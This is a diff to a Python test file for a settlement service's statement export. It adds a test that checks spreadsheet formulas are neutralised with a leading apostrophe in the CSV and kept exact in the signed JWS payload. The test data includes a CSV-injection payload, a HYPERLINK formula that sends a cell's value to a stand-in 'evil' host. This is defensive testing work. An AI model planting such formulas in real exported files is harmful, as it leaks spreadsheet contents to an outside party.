@@ -7,6 +7,7 @@ import base64
 import csv
 import io
 import json
+from dataclasses import replace
 from datetime import timedelta
 from decimal import Decimal
 from typing import Any
@@ -99,8 +100,12 @@ async def test_the_exchange_has_a_statement_of_the_fees_it_is_owed(november: Set
 
 def document_of_csv(text: str) -> dict[str, Any]:
     """The statement's JSON document as read back from its CSV alone (less its type, version
-    and issuer, which the CSV does not repeat)."""
-    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    and issuer, which the CSV does not repeat). A cell beginning with ``'`` is a text the
+    exchange neutralised for spreadsheets: exactly one ``'`` was added (partners/SETTLEMENT.md)."""
+    rows = [
+        {name: cell.removeprefix("'") for name, cell in row.items()}
+        for row in csv.DictReader(io.StringIO(text, newline=""))
+    ]
     first = rows[0]
     by_record: dict[str, list[dict[str, str]]] = {}
     for row in rows:
@@ -226,6 +231,24 @@ async def test_the_csv_holds_the_same_records(november: SettlementService) -> No
     )
     assert document_of_csv(text) == document_without_signature_data(statement.json())
     assert_adds_up(document_of_csv(text))
+
+
+async def test_a_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_exact_in_the_signed_json(
+    settlement: SettlementService, clock: FrozenClock
+) -> None:
+    hostile = '=HYPERLINK("http://evil/?"&A1,"click")'
+    await post(
+        settlement, [replace(redemption("r", "wallet-pay", "fresh-mart", 2_500), id="@SUM(1+1)", reference=hostile)]
+    )
+    await close(settlement, clock, "2026-11")
+    statement = await settlement.statement("wallet-pay", "2026-11")
+    text = statement.csv()
+    (line,) = [row for row in csv.DictReader(io.StringIO(text, newline="")) if row["record"] == "line"]
+    assert (line["transaction"], line["reference"], line["amount"]) == ("'@SUM(1+1)", "'" + hostile, "-25.00")
+    assert document_of_csv(text) == document_without_signature_data(statement.json())
+    signed = statement.jws(await settlement.signing_key())
+    verified = jws.deserialize_compact(signed, await published(settlement), algorithms=["RS256"])
+    assert json.loads(verified.payload)["lines"][0]["reference"] == hostile
 
 
 async def test_the_jws_verifies_with_the_published_keys_alone_and_carries_the_json(
